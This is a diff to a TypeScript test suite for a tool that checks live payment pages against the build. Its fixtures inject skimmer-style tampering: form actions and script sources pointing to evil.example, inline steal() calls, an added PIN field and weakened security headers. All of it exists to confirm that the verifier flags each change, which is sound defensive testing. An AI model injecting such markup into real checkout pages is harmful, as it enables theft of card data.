@@ -3,9 +3,13 @@ import { once } from 'node:events';
 import { createServer } from 'node:http';
 import { join } from 'node:path';
 
-import { expect, test } from './fixtures.ts';
+import { takeInventory } from '../../scripts/page-scripts/inventory.ts';
+import { verifyPage } from '../../scripts/page-scripts/verify.ts';
+import { CARDS, expect, test } from './fixtures.ts';
 
 const ROOT = join(import.meta.dirname, '../..');
+/** The program builds what it compares with, once for each page. */
+const VERIFY_TIMEOUT_MS = 300_000;
 
 const verify = (...urls: string[]): Promise<{ code: number; output: string }> =>
   new Promise((resolve) => {
@@ -15,35 +19,225 @@ const verify = (...urls: string[]): Promise<{ code: number; output: string }> =>
     });
   });
 
-test('a live page runs what the inventory lists, and nothing else', async ({
-  app,
-  createOrder,
-}) => {
-  const order = await createOrder();
-  const { code, output } = await verify(order.pay_url, `${app.url}/pay/nothing`);
-  expect(output).not.toContain('TAMPERED');
-  expect(code).toBe(0);
-});
+interface Tampering {
+  name: string;
+  finding: string;
+  html?: (html: string) => string;
+  headers?: (headers: Headers) => void;
+}
 
-test('a page that was tampered with is found out', async ({ createOrder }) => {
-  const order = await createOrder();
-  const html = await (await fetch(order.pay_url)).text();
-  const server = createServer((_request, response) => {
-    const skimmed = html.replace(
-      '</body>',
-      '<script src="https://skimmer.test/s.js"></script><script>steal()</script><b onclick="steal()"></b></body>',
-    );
-    response.setHeader('content-type', 'text/html').end(skimmed);
+const inBody = (markup: string) => (html: string) => html.replace('</body>', `${markup}</body>`);
+const inHead = (markup: string) => (html: string) => html.replace('</head>', `${markup}</head>`);
+const inForm = (markup: string) => (html: string) => html.replace('</form>', `${markup}</form>`);
+
+const TAMPERINGS: readonly Tampering[] = [
+  {
+    name: 'a foreign form action',
+    finding: 'Not of this build: <form id="card-form" method="post" action="https://evil.example',
+    html: (html) => html.replace(/action="\/pay/, 'action="https://evil.example/pay'),
+  },
+  {
+    name: 'a foreign action in the props of the form',
+    finding: 'Not of this build: <div id="card-form-root"',
+    html: (html) => html.replace('&quot;/pay/', '&quot;https://evil.example/pay/'),
+  },
+  {
+    name: 'a frame',
+    finding: 'Not of this build: <iframe',
+    html: inBody('<iframe src="//evil.example">'),
+  },
+  {
+    name: 'a stylesheet',
+    finding: 'Not of this build: <link',
+    html: inHead('<link rel=stylesheet href=/x.css>'),
+  },
+  {
+    name: 'a base',
+    finding: 'Not of this build: <base',
+    html: inHead('<base href="//evil.example">'),
+  },
+  {
+    name: 'a refresh',
+    finding: 'Not of this build: <meta',
+    html: inHead('<meta http-equiv=refresh content="0;url=//evil.example">'),
+  },
+  {
+    name: 'a style',
+    finding: 'Not of this build: <style',
+    html: inHead('<style>input{background:url(/x)}</style>'),
+  },
+  {
+    name: 'a changed style',
+    finding: 'Not of this build',
+    html: (html) => html.replace('<style', '<style media="print"'),
+  },
+  {
+    name: 'an event handler',
+    finding: 'Not of this build: <button onclick=',
+    html: (html) => html.replace('<button', '<button onclick=steal()'),
+  },
+  {
+    name: 'a field more',
+    finding: 'Not of this build: <input name="pin"',
+    html: inForm('<input name="pin" form=card-form>'),
+  },
+  {
+    name: 'a button elsewhere',
+    finding: 'Not of this build: <button formaction',
+    html: inForm('<button formaction="//evil.example">x</button>'),
+  },
+  {
+    name: 'another word',
+    finding: 'Not of this build: Card number and PIN',
+    html: (html) => html.replace('>Card number<', '>Card number and PIN<'),
+  },
+  {
+    name: 'a comment',
+    finding: 'Not of this build: <!--[if IE]',
+    html: inBody('<!--[if IE]>x<![endif]-->'),
+  },
+  {
+    name: 'a part taken away',
+    finding: 'Missing: <label for="cardholder-name"',
+    html: (html) => html.replace(/<label for="cardholder-name"[^>]*>/, ''),
+  },
+  {
+    name: 'parts in another order',
+    finding: 'another order',
+    html: (html) =>
+      html.replace(
+        /(<input id="card-number".*?\/>)(.*)(<input id="cardholder-name".*?\/>)/s,
+        '$3$2$1',
+      ),
+  },
+  {
+    name: 'markup in the amount',
+    finding: 'Not of this build',
+    html: (html) => html.replace(/(<p class="amount[^>]*>)/, '$1<b>now</b>'),
+  },
+  {
+    name: 'a script of another origin',
+    finding: 'A script of another origin: https://evil.example',
+    html: inBody('<script src="https://evil.example/s.js"></script>'),
+  },
+  {
+    name: 'a script in the page',
+    finding: 'Not what the inventory says: inline',
+    html: inBody('<script>steal()</script>'),
+  },
+  {
+    name: 'a script under a known nonce',
+    finding: 'Not of this build: <script nonce="{nonce}"',
+    html: (html) =>
+      html.replace(/<script nonce="([^"]*)">/, '<script nonce="$1">steal()</script>$&'),
+  },
+  {
+    name: 'a wider policy',
+    finding: 'A header is not what the build sends: content-security-policy',
+    headers: (headers) =>
+      headers.set(
+        'content-security-policy',
+        `${headers.get('content-security-policy') ?? ''} https:`,
+      ),
+  },
+  {
+    name: 'no policy',
+    finding: 'A header is missing: content-security-policy',
+    headers: (headers) => headers.delete('content-security-policy'),
+  },
+  {
+    name: 'a page that may be framed',
+    finding: 'A header is missing: x-frame-options',
+    headers: (headers) => headers.delete('x-frame-options'),
+  },
+  {
+    name: 'a header more',
+    finding: 'A header that the build does not send: access-control-allow-origin',
+    headers: (headers) => headers.set('access-control-allow-origin', '*'),
+  },
+];
+
+/** A page on the way of which somebody sits: `?tampering=0` is tampered with as the first of the list says. */
+async function startTampering(url: string) {
+  const server = createServer((request, response) => {
+    void tamper(url, request.url ?? '').then(({ status, headers, html }) => {
+      response.writeHead(status, Object.fromEntries(headers)).end(html);
+    });
   }).listen(0, '127.0.0.1');
   await once(server, 'listening');
   const address = server.address();
-  const port = typeof address === 'object' ? address?.port : undefined;
-  const { code, output } = await verify(`http://127.0.0.1:${port}/`);
+  if (address === null || typeof address === 'string') throw new Error('No port was given');
+  return { server, url: `http://127.0.0.1:${address.port}` };
+}
+
+async function tamper(url: string, path: string) {
+  const answer = await fetch(url + path, {
+    headers: { 'accept-encoding': 'identity', 'accept-language': 'en' },
+  });
+  const tampering = TAMPERINGS[Number(new URL(path, url).searchParams.get('tampering') ?? -1)];
+  const headers = new Headers(answer.headers);
+  tampering?.headers?.(headers);
+  headers.delete('content-length');
+  const html = await answer.text();
+  return { status: answer.status, headers, html: tampering?.html?.(html) ?? html };
+}
+
+test('live pages are as the build serves them, in every state and language', async ({
+  app,
+  request,
+  createOrder,
+}) => {
+  test.setTimeout(VERIFY_TIMEOUT_MS);
+  const order = await createOrder();
+  const converted = await createOrder({
+    method: 'card_kzt',
+    currency: 'KZT',
+    amount: 5000,
+    customer: {},
+  });
+  const declined = await createOrder();
+  const paid = await createOrder();
+  const form = { expiry: '12 / 39', security_code: '123', cardholder_name: 'Anna Weber' };
+  await request.post(declined.pay_url, { form: { ...form, card_number: CARDS.softDecline } });
+  await request.post(paid.pay_url, {
+    form: { ...form, card_number: CARDS.approved },
+    maxRedirects: 0,
+  });
+  const { code, output } = await verify(
+    order.pay_url,
+    `${order.pay_url}?lang=ar`,
+    converted.pay_url,
+    declined.pay_url,
+    paid.pay_url,
+    `${app.url}/pay/00000000-0000-4000-8000-000000000000`,
+    `${app.url}/pay/nothing`,
+  );
+  expect(output).not.toContain('NOT AS IT SHOULD BE');
+  expect(output).toContain('leads to');
+  expect(code).toBe(0);
+});
+
+test('whatever is tampered with is found', async ({ app, createOrder }) => {
+  test.setTimeout(VERIFY_TIMEOUT_MS);
+  const order = await createOrder();
+  const { server, url } = await startTampering(app.url);
+  const inventory = await takeInventory();
+  const page = `${url}/pay/${order.id}`;
+  expect((await verifyPage(page, inventory)).findings).toEqual([]);
+  for (const [at, { name, finding }] of TAMPERINGS.entries()) {
+    const { findings } = await verifyPage(`${page}?tampering=${at}`, inventory);
+    expect.soft(findings.join('\n'), name).toContain(finding);
+  }
+  const { code, output } = await verify(`${page}?tampering=0`);
+  expect(code).toBe(1);
+  expect(output).toContain('NOT AS IT SHOULD BE');
   server.closeAllConnections();
   server.close();
+});
+
+test('a page that cannot be fetched is no page as it should be', async () => {
+  const { code, output } = await verify('http://127.0.0.1:20001/pay/1', 'not an address');
   expect(code).toBe(1);
-  expect(output).toContain('A script of another origin: https://skimmer.test');
-  expect(output).toContain('Not what the inventory says: inline');
-  expect(output).toContain('Code outside of scripts');
-  expect(output).toContain("The policy lacks default-src 'none'");
+  expect(output).toContain('It cannot be fetched: connect ECONNREFUSED');
+  expect(output).toContain('It is no address');
 });
